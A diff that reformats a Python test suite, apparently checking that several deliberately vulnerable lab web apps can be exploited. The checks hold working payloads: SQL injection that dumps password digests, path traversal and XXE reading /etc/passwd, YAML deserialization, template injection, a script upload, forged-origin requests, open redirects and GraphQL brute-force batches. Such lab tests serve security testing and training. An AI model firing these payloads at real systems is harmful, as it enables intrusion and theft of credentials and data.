@@ -26,19 +26,14 @@ def _(client, name):
 @proof("bookclub", "login-sql")
 def _(client):
     answer = entered(client, "/users/v1/login", "olga' -- ", "x")
-    return (
-        answer.status_code == 200
-        and client.get("/me", headers={"Authorization": "Bearer " + answer.json()["auth_token"]}).json()["admin"] is True
-    )
+    return answer.status_code == 200 and client.get("/me", headers={"Authorization": "Bearer " + answer.json()["auth_token"]}).json()["admin"] is True
 
 
 @proof("bookclub", "user-sql")
 def _(client):
     caller = client.as_("ann")
     assert client.get("/users/v1/nobody", headers=caller).status_code == 404
-    return "$" in client.get("/users/v1/x' UNION SELECT digest, '' FROM users WHERE username='olga", headers=caller).json().get(
-        "username", ""
-    )
+    return "$" in client.get("/users/v1/x' UNION SELECT digest, '' FROM users WHERE username='olga", headers=caller).json().get("username", "")
 
 
 @proof("bookclub", "debug-users")
@@ -54,9 +49,7 @@ def _(client):
 
 @proof("bookclub", "password-any")
 def _(client):
-    client.put(
-        "/users/v1/carol/password", json={"password": "aspen-Teapot-37", "current": PASSWORD["ben"]}, headers=client.as_("ben")
-    )
+    client.put("/users/v1/carol/password", json={"password": "aspen-Teapot-37", "current": PASSWORD["ben"]}, headers=client.as_("ben"))
     return entered(client, "/users/v1/login", "carol", "aspen-Teapot-37").status_code == 200
 
 
@@ -77,9 +70,7 @@ def _(client):
 
 @proof("bookclub", "login-texts")
 def _(client):
-    return (
-        entered(client, "/users/v1/login", "ann", "wrong").text != entered(client, "/users/v1/login", "nobody.here", "wrong").text
-    )
+    return entered(client, "/users/v1/login", "ann", "wrong").text != entered(client, "/users/v1/login", "nobody.here", "wrong").text
 
 
 @proof("bookclub", "login-unlimited")
@@ -109,9 +100,7 @@ def _(client):
 
 
 def regatta_entry(client, name, password=None, cookie=""):
-    answer = client.post(
-        "/login", data={"username": name, "password": password or PASSWORD[name]}, headers={"Cookie": cookie} if cookie else {}
-    )
+    answer = client.post("/login", data={"username": name, "password": password or PASSWORD[name]}, headers={"Cookie": cookie} if cookie else {})
     client.cookies.clear()
     return answer
 
@@ -141,31 +130,20 @@ def _(client):
 @proof("regatta", "search-sql")
 def _(client):
     assert "Spring" in client.get("/search", params={"q": "regatta"}).text
-    return (
-        "harbour.master@port.example"
-        in client.get("/search", params={"q": "x' UNION SELECT 1, address FROM subscribers -- "}).text
-    )
+    return "harbour.master@port.example" in client.get("/search", params={"q": "x' UNION SELECT 1, address FROM subscribers -- "}).text
 
 
 @proof("regatta", "next-anywhere")
 def _(client):
     assert client.get("/go", params={"to": "/entries"}).headers["location"] == "/entries"
     answer = client.post("/login", data={"username": "ann", "password": PASSWORD["ann"], "next": "https://elsewhere.example/"})
-    return (
-        answer.headers["location"]
-        == client.get("/go", params={"to": "https://elsewhere.example/"}).headers.get("location")
-        == "https://elsewhere.example/"
-    )
+    return answer.headers["location"] == client.get("/go", params={"to": "https://elsewhere.example/"}).headers.get("location") == "https://elsewhere.example/"
 
 
 @proof("regatta", "forms-forged")
 def _(client):
     caller = client.as_("ann")
-    client.post(
-        "/account",
-        data={"email": "mallory@elsewhere.example", "phone": "0117 1"},
-        headers=caller | {"Origin": "https://elsewhere.example"},
-    )
+    client.post("/account", data={"email": "mallory@elsewhere.example", "phone": "0117 1"}, headers=caller | {"Origin": "https://elsewhere.example"})
     return "mallory@" in client.get("/account", headers=caller).text
 
 
@@ -195,11 +173,7 @@ def _(client):
 @proof("regatta", "admin-admin")
 def _(client):
     answer = regatta_entry(client, "admin", "admin")
-    return (
-        answer.status_code == 303
-        and "harbour"
-        in client.get("/office/subscribers", headers={"Cookie": answer.headers["set-cookie"].partition(";")[0]}).text
-    )
+    return answer.status_code == 303 and "harbour" in client.get("/office/subscribers", headers={"Cookie": answer.headers["set-cookie"].partition(";")[0]}).text
 
 
 @proof("regatta", "entry-read")
@@ -237,9 +211,7 @@ def _(client):
 
 @proof("pastes", "batches-open")
 def _(client):
-    queries = [{"query": ENTER, "variables": {"u": "carol", "p": f"wrong-{number}"}} for number in range(30)] + [
-        {"query": ENTER, "variables": {"u": "carol", "p": PASSWORD["carol"]}}
-    ]
+    queries = [{"query": ENTER, "variables": {"u": "carol", "p": f"wrong-{number}"}} for number in range(30)] + [{"query": ENTER, "variables": {"u": "carol", "p": PASSWORD["carol"]}}]
     answers = client.post("/graphql", json=queries).json()
     return len(answers) == 31 and "accessToken" in json.dumps(answers[-1])
 
@@ -247,9 +219,7 @@ def _(client):
 @proof("pastes", "alias-logins")
 def _(client):
     fields = " ".join(f'a{number}: login(username: "carol", password: "wrong-{number}") {{accessToken}}' for number in range(30))
-    answer = client.ask(
-        f'mutation {{{fields} right: login(username: "carol", password: "{PASSWORD["carol"]}") {{accessToken}}}}'
-    ).json()
+    answer = client.ask(f"mutation {{{fields} right: login(username: \"carol\", password: \"{PASSWORD['carol']}\") {{accessToken}}}}").json()
     return bool((answer.get("data") or {}).get("right"))
 
 
@@ -297,10 +267,7 @@ def _(client):
 
 @proof("pastes", "audits-open")
 def _(client):
-    return (
-        "login" in client.ask("{audits {username action}}", client.as_("ann")).text
-        and '"errors"' not in client.ask("{audits {username}}", client.as_("ben")).text
-    )
+    return "login" in client.ask("{audits {username action}}", client.as_("ann")).text and '"errors"' not in client.ask("{audits {username}}", client.as_("ben")).text
 
 
 # studio -----------------------------------------------------------------------------------------------------------------------------------
@@ -315,10 +282,7 @@ def _(client, name):
 def _(client):
     caller = client.as_("ann")
     assert "Waltz" in client.get("/sheets", params={"name": "waltz.txt"}, headers=caller).text
-    return (
-        "root:x:0:0" in client.get("/sheets", params={"name": "../../../../etc/passwd"}, headers=caller).text
-        and "osier" in client.get("/sheets", params={"name": "../studio.ini"}, headers=caller).text
-    )
+    return "root:x:0:0" in client.get("/sheets", params={"name": "../../../../etc/passwd"}, headers=caller).text and "osier" in client.get("/sheets", params={"name": "../studio.ini"}, headers=caller).text
 
 
 @proof("studio", "upload-outside")
@@ -330,9 +294,7 @@ def _(client):
 @proof("studio", "cover-page")
 def _(client):
     caller = client.as_("ann")
-    assert (
-        client.put("/recordings/1/cover", files={"file": ("a.png", b"\x89PNG\r\n\x1a\n...")}, headers=caller).status_code == 200
-    )
+    assert client.put("/recordings/1/cover", files={"file": ("a.png", b"\x89PNG\r\n\x1a\n...")}, headers=caller).status_code == 200
     answer = client.put("/recordings/1/cover", files={"file": ("page.html", b"<script>alert(1)</script>")}, headers=caller)
     cover = client.get(answer.json().get("cover") or "/version")
     return cover.headers["content-type"].startswith("text/html") and "<script>" in cover.text
@@ -341,29 +303,19 @@ def _(client):
 @proof("studio", "playlist-entities")
 def _(client):
     body = '<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]><p><title>&x;</title></p>'
-    return (
-        "root:x:0:0"
-        in client.post("/playlists", content=body, headers=client.as_("ann") | {"Content-Type": "application/xml"}).text
-    )
+    return "root:x:0:0" in client.post("/playlists", content=body, headers=client.as_("ann") | {"Content-Type": "application/xml"}).text
 
 
 @proof("studio", "settings-objects")
 def _(client):
     caller = client.as_("ann") | {"Content-Type": "application/yaml"}
     assert client.put("/me/settings", content="tempo: 96\nclick: true\n", headers=caller).status_code == 200
-    return (
-        client.put(
-            "/me/settings", content="tempo: !!python/object/apply:time.sleep [1.5]\n", headers=caller
-        ).elapsed.total_seconds()
-        > 1.4
-    )
+    return client.put("/me/settings", content="tempo: !!python/object/apply:time.sleep [1.5]\n", headers=caller).elapsed.total_seconds() > 1.4
 
 
 @proof("studio", "label-template")
 def _(client):
-    answer = client.post("/recordings/1/label", json={"text": "{{ title }}: {{ 31 * 62 }}"}, headers=client.as_("ann")).json()[
-        "label"
-    ]
+    answer = client.post("/recordings/1/label", json={"text": "{{ title }}: {{ 31 * 62 }}"}, headers=client.as_("ann")).json()["label"]
     assert answer.startswith("Take one of ann")
     return answer.endswith("1922")
 
@@ -397,10 +349,7 @@ def _(client):
 @proof("studio", "origins-all")
 def _(client):
     headers = client.get("/me", headers=client.as_("ann") | {"Origin": "https://elsewhere.example"}).headers
-    return (
-        headers.get("access-control-allow-origin") == "https://elsewhere.example"
-        and headers["access-control-allow-credentials"] == "true"
-    )
+    return headers.get("access-control-allow-origin") == "https://elsewhere.example" and headers["access-control-allow-credentials"] == "true"
 
 
 @proof("studio", "errors-detailed")
